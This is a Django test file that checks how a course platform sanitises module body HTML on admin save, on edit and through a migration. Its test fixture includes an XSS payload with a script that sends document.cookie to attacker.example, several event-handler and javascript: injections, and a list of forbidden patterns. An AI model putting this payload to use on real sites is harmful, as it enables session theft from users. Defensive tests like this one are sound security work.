"""Module bodies are cleaned to an allow-list on every write (finding 15)."""

from __future__ import annotations

import importlib

import pytest
from django.apps import apps
from django.test import Client
from django.urls import reverse

from qsep import services
from qsep.demo import COURSES
from qsep.models import Course, Module
from qsep.module_html import module_body_sanitise
from tests.harp.factories import UserFactory, sign_in_verified

pytestmark = pytest.mark.django_db

ATTACK = (
    "<p>Read me.</p>"
    "<script>document.location='https://attacker.example/?c='+document.cookie"
    "</script>"
    '<img src="https://example.org/x.png" onerror="alert(1)" alt="chart">'
    '<p><a href="javascript:alert(2)">Click</a></p>'
    '<iframe src="https://attacker.example/frame"></iframe>'
    '<p onmouseover="alert(3)" style="color:red">Hover</p>'
    '<p><a href="https://example.org/guide" target="_blank">Guide</a></p>'
)

FORBIDDEN = (
    "<script",
    "document.cookie",
    "onerror",
    "javascript:",
    '<iframe src="https://attacker',
    "onmouseover",
    "style=",
)


@pytest.fixture
def admin_client(client):
    sign_in_verified(
        client, UserFactory(username="siteadmin", is_staff=True, is_superuser=True)
    )
    return client


def course_form(**module: str) -> dict[str, str]:
    """The admin's add-course form with one module."""
    data = {
        "slug": "new-course",
        "title": "New course",
        "description": "Written in the admin.",
        "duration_minutes": "30",
        "ceus": "0.5",
        "passing_score": "80",
        "max_attempts": "3",
        "shuffle_questions": "on",
        "is_published": "on",
        "modules-TOTAL_FORMS": "1",
        "modules-INITIAL_FORMS": "0",
        "modules-0-position": "1",
        "modules-0-title": "Only module",
    }
    for prefix in ("questions", "evaluation_questions"):
        data[f"{prefix}-TOTAL_FORMS"] = "0"
        data[f"{prefix}-INITIAL_FORMS"] = "0"
    data.update({f"modules-0-{key}": value for key, value in module.items()})
    return data


def module_page(course: Course) -> str:
    learner = UserFactory(username="learner01", kind="learner")
    browser = Client()
    sign_in_verified(browser, learner)
    services.enrollment_create(learner=learner, course=course)
    response = browser.get(reverse("qsep:module", args=[course.slug, 1]))
    assert response.status_code == 200
    return response.content.decode()


def test_an_admin_saved_module_body_is_stored_and_shown_without_scripts(
    admin_client,
):
    response = admin_client.post(
        reverse("admin:qsep_course_add"), course_form(body=ATTACK)
    )
    assert response.status_code == 302, response.context["errors"]
    module = Module.objects.get()
    for bad in FORBIDDEN:
        assert bad not in module.body
    assert "<p>Read me.</p>" in module.body
    assert 'alt="chart"' in module.body
    assert 'href="https://example.org/guide" rel="noopener noreferrer"' in module.body

    page = module_page(module.course)
    # The site's own <script> tags are in the head; look at what follows the title.
    body = page.split('<div class="usa-prose">', 1)[1].split("</form>", 1)[0]
    for bad in FORBIDDEN:
        assert bad not in body
    assert "attacker.example" not in page and "alert(" not in page
    assert "Read me." in body and "Guide" in body


def test_an_admin_edit_of_an_existing_module_is_cleaned_too(admin_client):
    admin_client.post(
        reverse("admin:qsep_course_add"), course_form(body="<p>Safe.</p>")
    )
    course = Course.objects.get()
    module = course.modules.get()
    data = course_form(body=ATTACK)
    data.update(
        {
            "modules-INITIAL_FORMS": "1",
            "modules-0-id": str(module.pk),
            "modules-0-course": str(course.pk),
        }
    )
    response = admin_client.post(
        reverse("admin:qsep_course_change", args=[course.pk]), data
    )
    assert response.status_code == 302, response.context["errors"]
    module.refresh_from_db()
    for bad in FORBIDDEN:
        assert bad not in module.body


def test_a_body_of_nothing_but_a_script_is_refused_with_a_message(admin_client):
    response = admin_client.post(
        reverse("admin:qsep_course_add"),
        course_form(body="<script>alert(1)</script><iframe src='x'></iframe>"),
    )
    assert response.status_code == 200
    assert "Nothing is left of this text" in response.content.decode()
    assert not Course.objects.exists()


def test_the_embedded_video_still_works(admin_client):
    response = admin_client.post(
        reverse("admin:qsep_course_add"),
        course_form(body="<p>Watch.</p>", video_url="www.example.org/embed/42"),
    )
    assert response.status_code == 302, response.context["errors"]
    module = Module.objects.get()
    assert module.video_url == "https://www.example.org/embed/42"
    page = module_page(module.course)
    assert '<iframe src="https://www.example.org/embed/42"' in page


def test_a_script_address_is_not_a_video(admin_client):
    response = admin_client.post(
        reverse("admin:qsep_course_add"),
        course_form(body="<p>Watch.</p>", video_url="javascript:alert(1)"),
    )
    assert response.status_code == 200
    assert "Enter a valid URL." in response.content.decode()
    assert not Module.objects.exists()


def test_the_data_migration_cleans_bodies_written_before_the_rule():
    course = Course.objects.create(slug="old", title="Old", description="x")
    dirty = Module.objects.create(course=course, position=1, title="Old", body=ATTACK)
    clean = Module.objects.create(
        course=course, position=2, title="Clean", body="<p>Fine.</p>"
    )
    migration = importlib.import_module("qsep.migrations.0003_sanitise_module_bodies")
    migration.sanitise_module_bodies(apps, None)
    dirty.refresh_from_db()
    clean.refresh_from_db()
    assert dirty.body == module_body_sanitise(ATTACK)
    assert clean.body == "<p>Fine.</p>"


def test_the_demo_course_bodies_survive_cleaning_unchanged():
    for course in COURSES:
        for _title, body in course["modules"]:
            assert module_body_sanitise(body) == body


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ('<img src="http://example.org/a.png" alt="a">', '<img alt="a">'),
        ('<img src="//example.org/a.png" alt="a">', '<img alt="a">'),
        ('<img src="data:image/png;base64,AAAA" alt="a">', '<img alt="a">'),
        (
            '<a href="mailto:training@example.org">Write</a>',
            '<a href="mailto:training@example.org" rel="noopener noreferrer">Write</a>',
        ),
        ("<svg><script>alert(1)</script></svg>", ""),
        ('<form action="/x"><input name="a"></form>', ""),
    ],
)
def test_the_allow_list(given, kept):
    assert module_body_sanitise(given) == kept
